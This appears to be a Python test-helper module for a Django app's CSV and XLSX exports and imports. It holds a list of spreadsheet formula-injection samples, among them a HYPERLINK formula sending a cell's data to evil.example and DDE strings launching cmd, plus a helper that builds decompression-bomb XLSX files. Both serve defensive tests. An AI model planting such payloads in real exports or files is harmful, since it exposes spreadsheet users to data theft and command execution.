"""Test helpers for every app's exports and imports: texts a spreadsheet would run as
formulas, CSV and XLSX files read back as an officer's spreadsheet sees them, and
uploads of tables built as an officer's spreadsheet writes them."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Sequence
from typing import IO, Any

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell, MergedCell

from .exports import XLSX_CONTENT_TYPE

# One text per character a spreadsheet reads as the start of a formula (OWASP).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_table(content: bytes) -> list[list[str]]:
    """The rows of an exported CSV, which must start with the UTF-8 byte-order mark."""
    text = content.decode("utf-8")
    if not text.startswith("\ufeff"):
        raise AssertionError("an export is UTF-8 with a BOM, for Excel")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def xlsx_cells(content: bytes, sheet: int = 0) -> list[list[Cell | MergedCell]]:
    """The cells of a sheet of an exported workbook, by row (the header first)."""
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for row in workbook.worksheets[sheet].iter_rows()]


def xlsx_formulas(content: bytes) -> list[Any]:
    """Every cell of the workbook that a spreadsheet would compute: none, in an export."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def csv_upload(
    rows: Sequence[Sequence[str]],
    *,
    header: Sequence[str],
    delimiter: str = ",",
    bom: bool = False,
    name: str = "bang.csv",
) -> SimpleUploadedFile:
    """An uploaded CSV file in UTF-8 (with Excel's byte-order mark if `bom`): the header
    row, then `rows`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    data = out.getvalue().encode("utf-8")
    return SimpleUploadedFile(name, (b"\xef\xbb\xbf" if bom else b"") + data, "text/csv")


def xlsx_upload(
    rows: Sequence[Sequence[object]], *, header: Sequence[str], name: str = "bang.xlsx"
) -> SimpleUploadedFile:
    """An uploaded XLSX workbook whose first sheet holds the header row, then `rows`."""
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    workbook.save(out)
    return SimpleUploadedFile(name, out.getvalue(), XLSX_CONTENT_TYPE)


def xlsx_with_member(source: bytes, name: str, write: Callable[[IO[bytes]], None]) -> bytes:
    """A copy of the workbook `source` whose member `name` (a sheet's XML, the shared
    texts) is what `write` streams, packed at the highest level: how the tests of every
    XLSX reader build files that unpack to far more than they weigh."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as original,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as copy,
    ):
        for info in original.infolist():
            if info.filename != name:
                copy.writestr(info.filename, original.read(info))
        with copy.open(name, "w") as member:
            write(member)
    return out.getvalue()
